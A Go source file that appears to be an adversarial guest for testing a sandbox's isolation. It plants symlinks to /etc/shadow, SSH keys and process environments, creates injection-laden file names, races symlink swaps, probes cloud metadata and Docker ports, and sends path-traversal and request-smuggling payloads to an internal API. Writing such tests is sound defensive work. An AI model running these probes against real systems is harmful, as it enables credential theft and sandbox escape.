package main

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"time"
)

// where all is done; what it makes is left there for the host to take.
const where = "/home/agent/ill"

// inside does all that a root can do beside a true agent.
func (h *hostile) inside() {
	os.MkdirAll(where, 0o777)
	h.links()
	h.names()
	h.deep()
	h.sparse()
	h.attributes()
	h.end = time.Now().Add(h.length)
	var all sync.WaitGroup
	for _, do := range []func(){h.swap, h.crowd, h.churn, h.console, h.connections, h.itself} {
		all.Go(do)
	}
	all.Wait()
}

// lures are where a link may lead that is to leave the computer.
func (h *hostile) lures() []string {
	up := strings.Repeat("../", 40)
	return []string{
		h.canary, up + h.canary[1:], "/proc/self/root" + h.canary, "/proc/1/root" + h.canary, "/proc/self/cwd/" + up + h.canary[1:],
		"/etc/shadow", up + "etc/shadow", "/root/.ssh/id_ed25519", "/proc/self/environ", "/proc/1/environ", "/proc/self/mem", "/proc/kcore", "/dev/mem",
		"/dev/stdin", "/dev/fd/3", "/var/lib/holt/holt.db", "loop", ".", "..", "/", "", strings.Repeat("a/", 2047),
		"\x1b]52;c;aG9sdA==\x07", "\xff\xfe", "C:\\canary",
	}
}

// links are in a directory of their own: files and directories that lead away.
func (h *hostile) links() {
	dir := filepath.Join(where, "links")
	os.Mkdir(dir, 0o777)
	for i, to := range h.lures() {
		if os.Symlink(to, fmt.Sprintf("%s/%d", dir, i)) == nil {
			h.did("links", 1)
		}
		h.reads(to)
	}
	os.Symlink("loop", dir+"/loop")
	os.Symlink(filepath.Dir(h.canary), dir+"/dir")
	os.Symlink(h.canary, where+"/canary")
	syscall.Mkfifo(dir+"/fifo", 0o666)
	syscall.Mknod(dir+"/mem", syscall.S_IFCHR|0o666, 1<<8|1)
	syscall.Mknod(dir+"/vda", syscall.S_IFBLK|0o666, 253<<8)
	os.WriteFile(dir+"/suid", []byte("#!/bin/sh\n"), 0o777)
	os.Chmod(dir+"/suid", 0o777|os.ModeSetuid|os.ModeSetgid)
	h.did("links", 7)
}

// reads looks what the guest's own kernel has there.
func (h *hostile) reads(path string) {
	fd, err := syscall.Open(path, syscall.O_RDONLY|syscall.O_NONBLOCK, 0)
	if err != nil {
		return
	}
	defer syscall.Close(fd)
	b := make([]byte, 64<<10)
	if n, err := syscall.Read(fd, b); err == nil {
		h.saw(b[:n])
	}
}

// names that do something to who shows or makes them.
func (h *hostile) names() {
	dir := filepath.Join(where, "names")
	os.Mkdir(dir, 0o777)
	for _, name := range []string{
		"\x1b[2J\x1b[H", "a\nb", "a\rb", "-rf", "--", "*", "$(touch pwned)", "`id`", "\xff\xfe\xfd", "\u202etxt.exe", "..\\..\\x", "...", " ", "\x01",
		strings.Repeat("n", 255), strings.Repeat("\xf0\x9f\x92\xa9", 63), ".holt-cp-x", ".git", "\"\\377\"",
	} {
		if os.WriteFile(filepath.Join(dir, name), []byte(name), 0o666) == nil {
			h.did("names", 1)
		}
	}
}

// deep has directories in directories, until a path to the innermost is longer than any that a system call takes.
func (h *hostile) deep() {
	dir, inner := where+"/deep", where+"/inner"
	os.Mkdir(inner, 0o777)
	for range 60 {
		name := strings.Repeat("d", 100)
		os.Mkdir(dir, 0o777)
		if os.Rename(inner, dir+"/"+name) != nil || os.Rename(dir, inner) != nil {
			break
		}
		h.did("deep directories", 1)
	}
}

// sparse files say that they are larger than any disk.
func (h *hostile) sparse() {
	for i, size := range []int64{1 << 40, 1 << 50, 1<<62 - 1, 1<<63 - 1} {
		name := fmt.Sprintf("%s/sparse%d", where, i)
		f, err := os.Create(name)
		if err != nil {
			continue
		}
		f.Truncate(size)
		f.WriteAt([]byte("end"), size-4096)
		syscall.Fallocate(int(f.Fd()), 0, 0, size)
		f.Close()
		h.did("sparse files", 1)
	}
}

func (h *hostile) attributes() {
	name := where + "/attributes"
	os.WriteFile(name, nil, 0o666)
	value := make([]byte, 64<<10)
	for i := range 16 {
		if syscall.Setxattr(name, fmt.Sprintf("user.%d", i), value, 0) == nil {
			h.did("attributes of 64 KiB", 1)
		}
	}
}

// swap has a name be a directory and a link to the host's, by turns.
func (h *hostile) swap() {
	dir, link, at := where+"/dir", where+"/link", where+"/swap"
	os.Mkdir(dir, 0o777)
	os.WriteFile(dir+"/secret", []byte("mine"), 0o666)
	os.Symlink(filepath.Dir(h.canary), link)
	for !h.over() {
		os.Rename(dir, at)
		os.Rename(at, dir)
		os.Rename(link, at)
		os.Rename(at, link)
		h.did("swaps of a directory and a link", 1)
		time.Sleep(5 * time.Millisecond)
	}
	os.Rename(link, at)
}

// crowd fills one directory.
func (h *hostile) crowd() {
	dir := where + "/crowd"
	os.Mkdir(dir, 0o777)
	for i := 0; !h.over() && i < 50_000; i++ {
		if os.Symlink(h.canary, fmt.Sprintf("%s/%d", dir, i)) == nil {
			h.did("links in one directory", 1)
		}
	}
}

// churn makes events.
func (h *hostile) churn() {
	a, b := where+"/churn", where+"/churn2"
	for !h.over() {
		os.WriteFile(a, []byte("x"), 0o666)
		os.Rename(a, b)
		os.Chmod(b, 0o600)
		os.Remove(b)
		h.did("events of files", 4)
	}
}

// console says what is no text, without end.
func (h *hostile) console() {
	f, err := os.OpenFile(serial, os.O_WRONLY|syscall.O_NONBLOCK, 0)
	if err != nil { // a sandbox's is that of its agent
		f, err = ofAgent(2)
	}
	if err != nil {
		return
	}
	defer f.Close()
	for !h.over() {
		n, _ := f.Write(h.bytes(1 << 10))
		h.did("bytes for the console", n)
		time.Sleep(10 * time.Millisecond)
	}
}

// connections tries to reach what is not for it, thousands of times.
func (h *hostile) connections() {
	var all sync.WaitGroup
	for range 20 {
		all.Go(func() {
			for !h.over() {
				where := one(h, "10.0.2.2:22", "10.0.2.2:1", "127.0.0.1:2375", "169.254.169.254:80", "10.0.0.1:80", "192.168.0.1:443", "172.17.0.1:2375", "10.0.2.3:53", "holt.internal:80")
				c, err := net.DialTimeout(one(h, "tcp", "tcp", "tcp", "udp"), where, time.Second)
				h.did("connections", 1)
				if err != nil {
					continue
				}
				c.SetDeadline(time.Now().Add(100 * time.Millisecond))
				c.Write(h.bytes(h.intN(1400)))
				b := make([]byte, 4096)
				n, _ := c.Read(b)
				h.saw(b[:n])
				c.Close()
			}
		})
	}
	all.Wait()
}

// itself asks at holt.internal for what is not its own.
func (h *hostile) itself() {
	big := strings.Repeat("x", 1<<20)
	asks := []string{
		"GET /v1/self HTTP/1.1\r\nHost: holt.internal\r\n\r\n",
		"GET /v1/computers HTTP/1.1\r\nHost: holt.internal\r\n\r\n",
		"GET /v1/self/../computers HTTP/1.1\r\nHost: holt.internal\r\n\r\n",
		"GET //v1/computers/curie/files/content?path=/etc/shadow HTTP/1.1\r\nHost: holt\r\n\r\n",
		"GET http://holt/v1/computers HTTP/1.1\r\nHost: holt\r\n\r\n",
		"GET /v1/self%2f..%2fcomputers HTTP/1.1\r\nHost: holt.internal\r\n\r\n",
		"CONNECT holt:80 HTTP/1.1\r\nHost: holt\r\n\r\n",
		"POST /v1/self/fork HTTP/1.1\r\nHost: holt.internal\r\nContent-Length: 99999999999\r\n\r\n{\"name\":\"" + big,
		"POST /v1/self/fork HTTP/1.1\r\nHost: holt.internal\r\nContent-Length: 30\r\n\r\n{\"name\":\"../../x\",\"count\":9999}",
		"POST /v1/self/checkpoint HTTP/1.1\r\nHost: holt.internal\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n" + big,
		"POST /v1/self/checkpoint HTTP/1.1\r\nHost: holt.internal\r\nTransfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\nGET /v1/computers HTTP/1.1\r\nHost: x\r\n\r\n",
		"GET /v1/self HTTP/1.1\r\nHost: holt.internal\r\nX-Big: " + big + "\r\n\r\n",
		"GET /v1/self HTTP/1.1\r\nHost: holt.internal\r\nAuthorization: Bearer x\r\nX-Forwarded-For: 127.0.0.1\r\nIdempotency-Key: " + big[:8000] + "\r\n\r\n",
		"GET /v1/self HT", "\x16\x03\x01\x02\x00\x01\x00", "",
	}
	const least = 64 // also of a slow machine
	var all sync.WaitGroup
	for first := range 4 {
		all.Go(func() {
			for n := first; !h.over() || h.count("calls of holt.internal") < least && time.Since(h.end) < time.Minute; n++ {
				h.ask(asks[n%len(asks)])
			}
		})
	}
	all.Wait()
}

func (h *hostile) ask(what string) {
	c, err := net.DialTimeout("tcp", "holt.internal:80", time.Second)
	if err != nil {
		return
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(2 * time.Second))
	h.did("calls of holt.internal", 1)
	io.WriteString(c, what)
	if h.intN(4) == 0 { // and does not read
		return
	}
	got, _ := io.ReadAll(io.LimitReader(bufio.NewReader(c), 64<<10))
	h.saw(got)
	if strings.Contains(string(got), `"curie"`) {
		h.did("LEAK of another computer", 1)
	}
}
